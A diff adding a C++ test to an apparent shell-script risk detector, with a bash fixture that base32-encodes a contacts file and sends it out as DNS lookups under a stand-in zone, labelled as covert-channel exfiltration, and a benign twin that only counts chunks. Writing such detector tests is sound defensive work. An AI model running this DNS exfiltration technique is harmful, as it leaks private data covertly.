@@ -193,5 +193,34 @@ build(".")
   for (const auto& c : cases) check(c);
 }
 
+// "${A[*]}" and "$*" join with IFS's first character: a zone spelled as an
+// array and joined in `$(IFS=.; echo "${ZONE[*]}")` had been joined by
+// blanks, so the lookups of a backup's base32 chunks under it named no
+// host. The subshell's IFS ends with it. Twins: the same chunks only
+// counted, and an array joined after the subshell still by blanks.
+TEST(HundredAndThirtySeventhRoundClasses, StarExpansionsJoinByIfs) {
+  const Case cases[] = {
+      {"base32 chunks of a file looked up under a zone joined by IFS", B, R"sh(#!/bin/bash
+ZONE_PARTS=(t rk example net)
+zone="$(IFS=.; echo "${ZONE_PARTS[*]}")"
+while read -r chunk; do
+    dig +short "${chunk}.${zone}" A
+done < <(gzip -c crew/contacts.csv | base32 -w 60)
+)sh",
+       "COVERT-CHANNEL-EXFILTRATION", Sh},
+      {"the same chunks only counted", L, R"sh(#!/bin/bash
+ZONE_PARTS=(t rk example net)
+zone="$(IFS=.; echo "${ZONE_PARTS[*]}")"
+n=0
+while read -r chunk; do
+    n=$((n + 1))
+done < <(gzip -c crew/contacts.csv | base32 -w 60)
+echo "$n chunks for $zone" > chunks.txt
+)sh",
+       nullptr, Sh},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
